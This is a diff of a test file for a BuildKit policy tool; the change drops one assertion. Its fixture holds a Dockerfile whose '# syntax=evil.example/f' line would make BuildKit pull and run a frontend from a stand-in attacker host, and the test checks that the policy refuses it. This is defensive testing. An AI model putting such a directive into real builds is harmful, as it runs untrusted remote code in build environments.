@@ -111,7 +111,6 @@ describe('buildkit: policy', () => {
     const dir = tree('# syntax=evil.example/f\nFROM ubuntu\nADD https://example.com/a /a\n', `${CONFIG}buildkit:\n  remote_add: true\n`);
     const text = await run(dir, ['explain', 'app']);
     expect(text.exitCode).toBe(0);
-    expect(text.stdout).toContain('  frontend: evil.example/f');
     expect(text.stdout).toContain('asks BuildKit (line 1): its # syntax line makes BuildKit pull and run the frontend evil.example/f: REFUSED, buildkit.syntax does not allow it');
     expect(text.stdout).toContain('asks BuildKit (line 3): ADD fetches https://example.com/a at build time');
     expect(text.stdout).toContain('allowed by buildkit.remote_add');
